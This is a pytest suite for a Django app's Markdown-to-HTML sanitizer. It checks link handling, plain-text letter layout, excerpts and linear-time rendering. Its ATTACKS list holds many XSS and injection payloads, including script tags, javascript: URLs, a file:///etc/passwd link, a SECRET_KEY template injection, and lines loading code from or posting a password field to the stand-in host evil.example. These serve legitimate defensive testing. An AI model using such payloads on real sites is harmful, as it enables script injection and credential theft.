"""People's words: nothing live comes out, nothing readable is lost."""

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from time import thread_time

import pytest
from django.template import Context, Template

from typesetting.prose import brief_of, html_of, plain_of

HARMLESS = {
    "p": set(),
    "br": set(),
    "strong": set(),
    "em": set(),
    "a": {"href", "title", "rel"},
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "blockquote": set(),
    "code": set(),
    "pre": set(),
    "hr": set(),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='position:fixed;inset:0'>all over the page</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/seen.gif)",
    '![x](x "\\" onerror=alert(1)")',
    '[x](https://a.example "\\"onmouseover=alert(1)")',
    "[x](https://a.example'onclick='alert(1))",
    '[x](https://a.example/"onclick="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)',
    "javascript://a.example/%0aalert(1)",
    'www.a.example/"><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>\n  alert(1)\n  </script>",
    "1. [x](javascript:alert(1))",
    "**<b onclick=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    'a@a.example"onclick=alert(1)',
    'mailto:a@a.example?"onclick=alert(1)',
    "\u202e<script>\u202calert(1)</script>",
    "\0<script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% include 'x' %}",
]


class Witness(HTMLParser):
    """Reads the output as a browser does and keeps what should not be there."""

    def __init__(self):
        super().__init__()
        self.foul = []
        self.addresses = []

    def handle_starttag(self, tag, attrs):
        allowed = HARMLESS.get(tag)
        if allowed is None or {name for name, _ in attrs} - allowed:
            self.foul.append((tag, attrs))
        self.addresses += [value for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        self.foul.append(("comment", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def witnessed(html):
    witness = Witness()
    witness.feed(html)
    witness.close()
    return witness


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_somebody_types_becomes_live(text):
    seen = witnessed(html_of(text))

    assert seen.foul == []
    for address in seen.addresses:
        assert address.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_too_long_for_markdown_is_shown_as_typed(text):
    assert witnessed(html_of(text, longest=1)).foul == []


def test_the_witness_would_see_what_gets_through():
    assert witnessed("<p onclick=x><script>").foul != []
    assert witnessed("<!-- x -->").foul != []


def test_the_cleaner_would_hold_where_the_reader_let_html_through():
    assert "<a rel=" not in html_of("[x](javascript:alert(1))")
    assert "&lt;b&gt;" in html_of("<b>bold</b>")


def test_a_reply_keeps_its_shape():
    html = html_of("Dear all,\nthis **works**.\n\n- one\n- two\n\n3. three")

    assert "Dear all,<br>\nthis <strong>works</strong>." in html
    assert "<li>one</li>" in html
    assert '<ol start="3">' in html


def test_a_heading_in_a_reply_is_no_heading_of_the_page():
    assert html_of("# Ring pits") == "<p><strong>Ring pits</strong></p>\n"
    assert html_of("Ring pits\n---") == "<p>Ring pits</p>\n<hr>\n"


def test_indented_lines_of_a_mail_are_not_code():
    assert "<code>" not in html_of("Dear all,\n\n      with an indent")


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.example/b_c_d?x=1.", "https://a.example/b_c_d?x=1"),
        ("see www.undp.example/plan.", "http://www.undp.example/plan"),
        ("(see www.undp.example)", "http://www.undp.example"),
        ("[the plan](https://a.example)", "https://a.example"),
        ("write to ram@who.int", "mailto:ram@who.int"),
        ("write to ram@moh.gov.np.", "mailto:ram@moh.gov.np"),
    ],
)
def test_addresses_become_links(text, address):
    html = html_of(text)

    assert witnessed(html).addresses == [address]
    assert 'rel="nofollow ugc noopener"' in html


@pytest.mark.parametrize("text", ["report.md", "e.g.so on", "3.5.to", "www. is"])
def test_what_only_looks_like_an_address_is_left_alone(text):
    assert witnessed(html_of(text)).addresses == []


def test_words_beyond_the_cap_are_all_there():
    text = "<b>word</b> " * 20_000

    html = html_of(text)

    assert html.count("&lt;b&gt;word&lt;/b&gt;") == 20_000


REPEATED = [
    "[", "![", "[](", "[a](", "](", "`", "`a``", "*a_ ", "**a", "_a", ">", "> ", "- ",
    "* - ", "-\n", "# ", "1. ", "&#", "<", "<a ", "<!-- ", "\\", "(", '"', "~~~\n",
    "http://a.", "http://a-", "http://a?(((", "http://a.b/x", "http://user:", "www.a.",
    "mailto:a@", "a.a@a.", "@", "中@", "a  \n", "\t- a\n", "[a]: b\n", "\0",
]  # fmt: skip


def seconds(text):
    started = thread_time()
    html_of(text)
    plain_of(text)
    return thread_time() - started


@pytest.mark.parametrize("bit", REPEATED)
def test_time_grows_with_the_length_and_not_with_its_square(bit):
    text = bit * 20_000

    long = seconds(text[:20_000])

    # Four times the length would take sixteen times the time.
    assert long < 0.8 or long < 9 * seconds(text[:5_000])


def test_many_threads_share_one_reader():
    texts = [f"*{n}* https://a.example/{n}" for n in range(200)]
    alone = [html_of(text) for text in texts]

    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(html_of, texts)) == alone


def test_a_letter_carries_the_words_in_72_columns():
    text = "# Ring pits\n\n" + "They stand above the flood. " * 10 + "\n\n- one\n- two"

    lines = plain_of(text).split("\n")

    assert lines[0] == "RING PITS"
    assert max(map(len, lines)) <= 72
    assert lines[-2:] == ["- one", "- two"]


def test_a_letter_says_where_a_link_leads():
    assert plain_of("[the plan](https://a.example)") == "the plan <https://a.example>"
    assert plain_of("see https://a.example") == "see https://a.example"


def test_an_address_is_never_cut_in_a_letter():
    address = "https://a.example/" + "long" * 30

    assert address in plain_of(f"Please look at {address} today.").split("\n")


def test_lists_and_quotations_are_set_in_a_letter():
    text = "> said\n> before\n\n1. one\n   - sub\n2. two\n\n```\ncode\n```\n\n---"

    assert plain_of(text) == (
        "> said\n> before\n\n1. one\n   - sub\n2. two\n\n    code\n\n* * *"
    )


def test_chinese_lines_are_as_wide_as_others():
    lines = plain_of("在尼泊尔的河岛上，雨季时坑式厕所会被淹没。" * 8).split("\n")

    assert {len(line) for line in lines[:-1]} <= {35, 36}
    assert not any(line.startswith(("，", "。")) for line in lines)


def test_arabic_marks_take_no_column():
    line = "تُغمَر " * 20

    assert len(plain_of(line).split("\n")[0]) > 72


@pytest.mark.parametrize(
    ("text", "brief"),
    [
        ("", ""),
        ("One **bold**\nline.", "One bold line."),
        ("# Head\n\n- one\n- two", "Head one two"),
        ("[the plan](https://a.example)", "the plan"),
        ("one two three four five six", "one two three four five…"),
        ("one two three four, five six", "one two three four, five…"),
        ("one two three four five, six", "one two three four five…"),
    ],
)
def test_an_excerpt_is_one_plain_line(text, brief):
    assert brief_of(text, 5) == brief


def test_an_excerpt_of_a_script_without_spaces_is_short_too():
    assert len(brief_of("在尼泊尔的河岛上" * 50)) <= 101
    assert len(brief_of("x" * 5000)) <= 201


def test_templates_set_notes_and_excerpts():
    template = Template("{% load prose %}{{ note|prose }}|{{ note|excerpt:1 }}")

    said = template.render(Context({"note": "*one* <two>"}))

    assert said == "<p><em>one</em> &lt;two&gt;</p>\n|one…"
